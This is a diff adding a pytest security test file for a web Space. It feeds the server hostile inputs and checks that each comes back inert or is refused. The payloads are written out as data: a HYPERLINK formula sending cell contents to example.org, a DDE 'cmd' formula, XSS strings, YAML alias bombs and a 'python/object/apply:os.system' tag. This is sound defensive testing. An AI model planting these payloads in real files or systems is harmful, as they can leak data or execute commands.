@@ -1,0 +1,185 @@
+"""What a bad guest sends to the Space, through the real server, and what is answered."""
+
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pyarrow.parquet as pq
+import pytest
+import yaml
+from served_space import Served, client_of, rows_of, served_space, temporary, upload, write_rows
+
+from normscope.spaces.normscope.context_form import EXAMPLE
+
+pytest.importorskip("gradio_client", reason="needs gradio_client: pip install 'normscope[space]'")
+
+LINK = '=HYPERLINK("http://example.org/?"&A1,"look")'
+FORMULAS = [LINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "  =1+1", "=cmd|' /C calc'!A0"]
+SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)> </style></pre>{{7*7}}${7*7}"
+RUNS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def runs(cell: str) -> bool:
+    """Whether a spreadsheet would take the cell for a formula."""
+    return cell.lstrip(" ").startswith(RUNS) and not cell.lstrip("-").replace(".", "").isdigit()
+
+
+def test_formulas_come_back_inert_in_every_cell_and_header(client: Any, tmp_path: Path) -> None:
+    rows = [[one, one, one, one] for one in FORMULAS]
+    path = write_rows(tmp_path / "a.csv", [["question", "answer", "category", LINK], *rows])
+    _, files = client.predict(upload(path), *[""] * 5, api_name="/score_file")
+    judgements, judged, report = map(Path, files)
+    found = rows_of(judged)
+    assert len(found) == len(FORMULAS)
+    cells = [*found[0], *(cell for row in found for cell in row.values())]
+    assert sum("HYPERLINK" in cell for cell in cells) == 5
+    assert [cell for cell in cells if runs(cell)] == []
+    assert pq.read_table(judgements).num_rows == 3 * len(FORMULAS)
+    assert "href" not in report.read_text().split("HYPERLINK", 1)[1][:40]
+
+
+def test_formulas_of_a_sheet_and_in_names_of_runs_come_back_inert(
+    client: Any, tmp_path: Path
+) -> None:
+    allowed = "label_moral: 0, 1 (? if it cannot be told)"
+    names = ["item", "question", "answer", "label_moral", "comment", "allowed", "sheet"]
+    rows = [[f"=i{n}", x, x, "", x, allowed, LINK] for n, x in enumerate(FORMULAS)]
+    sheet = write_rows(tmp_path / "rater.csv", [names, *rows])
+    filled = rows_of(client.predict(upload(sheet), {}, api_name="/fill_sheet"))
+    assert [cell for row in filled for cell in row.values() if runs(cell)] == []
+    given = [
+        [upload(write_rows(tmp_path / f"{at}.csv", [head, *([LINK, at, "", LINK] for _ in "ab")]))]
+        for at, head in enumerate([["question", "refusal", "refusal_reason", "category"]] * 2)
+    ]
+    _, files = client.predict(False, [LINK, LINK], *given, None, None, api_name="/compare_runs")
+    [table] = [path for path in files if path.endswith(".csv")]
+    compared = rows_of(table)
+    assert compared
+    shown = ("first", "second", "member", "benchmark")
+    assert [row[name] for row in compared for name in shown if runs(row[name])] == []
+
+
+def test_markup_in_a_file_is_text_in_its_report(client: Any, tmp_path: Path) -> None:
+    rows = [[SCRIPT, SCRIPT, SCRIPT]] * 20
+    path = write_rows(tmp_path / "a.csv", [["question", "answer", "category"], *rows])
+    _, files = client.predict(upload(path), *[""] * 5, api_name="/score_file")
+    report = Path(files[2]).read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(1)" in report
+    for told in ("<script>alert", "<img", "</pre>{{"):
+        assert told not in report
+
+
+LAUGHS = "a: &a [x, x]\n" + "".join(
+    f"{name}: &{name} [*{before}, *{before}]\n"
+    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
+)
+PRODUCT = {
+    **EXAMPLE,
+    "factors": {
+        name: {"levels": [f"{name} {n}" for n in range(400)]} for name in EXAMPLE["factors"]
+    },
+}
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        (LAUGHS, "aliases"),
+        ("a: &a {b: 1}\nc: {<<: *a}", "aliases"),
+        ("a: &a [*a]", "aliases"),
+        ("x: " + "y" * 5_000_000, "characters"),
+        ("[" * 20_000, "beyond reason|not valid YAML"),
+        ("a: [" + "{b: [" * 40 + "]}" * 40 + "]", "beyond reason"),
+        ("{a: " * 10_000, "beyond reason|not valid YAML"),
+        ("!!python/object/apply:os.system [id]", "not valid YAML"),
+        ("a: \x00", "not valid YAML"),
+    ],
+    ids=["laughs", "merge", "own", "huge", "open", "deep", "braces", "tag", "null"],
+)
+@pytest.mark.parametrize("endpoint", ["/check_context", "/context_yaml"])
+def test_a_yaml_bomb_is_refused_at_once(client: Any, text: str, told: str, endpoint: str) -> None:
+    given: list[Any] = [{}, text] if endpoint == "/context_yaml" else [text]
+    begun = time.monotonic()
+    with pytest.raises(Exception, match=told):
+        client.predict(*given, api_name=endpoint)
+    assert time.monotonic() - begun < 10
+
+
+def test_a_product_beyond_reason_is_told_and_not_made(client: Any) -> None:
+    begun = time.monotonic()
+    found = client.predict(yaml.safe_dump(PRODUCT), api_name="/check_context")
+    # 400 to the power of four
+    assert any("25,600,000,000" in one["text"] for one in found["findings"])
+    assert time.monotonic() - begun < 10
+
+
+def test_a_long_list_of_scalars_within_the_limit_is_answered(client: Any) -> None:
+    begun = time.monotonic()
+    found = client.predict("a: [" + "1," * 29_000 + "]", api_name="/check_context")
+    assert found["errors"] > 0
+    assert time.monotonic() - begun < 90
+
+
+LEAVING = """
+import sys
+from gradio_client import Client, handle_file
+job = Client(sys.argv[1], verbose=False).submit(
+    handle_file(sys.argv[2]), "", "", "", "", "", api_name="/score_file"
+)
+for _ in job:
+    print("begun", flush=True)
+"""
+
+
+def test_who_leaves_half_way_ends_the_job_and_frees_the_place(
+    client: Any, served: Served, tmp_path: Path
+) -> None:
+    # 600 answers of three heads at a tenth of a second each are three minutes
+    path = write_rows(tmp_path / "slow.csv", [["question", "answer"], *([["Q", "slow"]] * 600)])
+    quick = write_rows(tmp_path / "quick.csv", [["question", "answer"], ["Q", "A"]])
+    leaves = [sys.executable, "-c", LEAVING, served[0], str(path)]
+    with subprocess.Popen(leaves, stdout=subprocess.PIPE, text=True) as gone:
+        assert gone.stdout is not None
+        assert gone.stdout.readline() == "begun\n"
+        assert temporary(served)
+        with pytest.raises(Exception, match="1 of your requests"):
+            client.predict(upload(quick), *[""] * 5, api_name="/score_file")
+        gone.kill()
+    begun = time.monotonic()
+    found: dict[str, Any] = {}
+    while not found and time.monotonic() - begun < 60:
+        try:
+            found, _ = client.predict(upload(quick), *[""] * 5, api_name="/score_file")
+        except Exception as error:  # noqa: BLE001 - whatever gradio raises
+            assert "1 of your requests" in str(error)
+            time.sleep(0.5)
+    assert found["rows"] == 1
+    assert temporary(served) == []
+
+
+@pytest.fixture
+def forgetful(tmp_path: Path) -> Iterator[Served]:
+    """A Space that keeps files of visitors for two seconds, and looks every second."""
+    with served_space(tmp_path, NORMSCOPE_TEST_KEEP="2") as space:
+        yield space
+
+
+@pytest.mark.slow
+def test_what_was_uploaded_and_made_is_deleted(forgetful: Served, tmp_path: Path) -> None:
+    client = client_of(forgetful[0])
+    path = write_rows(tmp_path / "mine.csv", [["question", "answer"], ["Q", "A"]])
+    client.predict(upload(path), *[""] * 5, api_name="/score_file")
+
+    def kept() -> list[Path]:
+        names = {"mine.csv", "judged.csv", "judgements.parquet", "report.html"}
+        return [one for one in (forgetful[1] / "tmp").rglob("*") if one.name in names]
+
+    assert kept()
+    begun = time.monotonic()
+    while kept() and time.monotonic() - begun < 60:
+        time.sleep(0.5)
+    assert kept() == []
+    client.close()
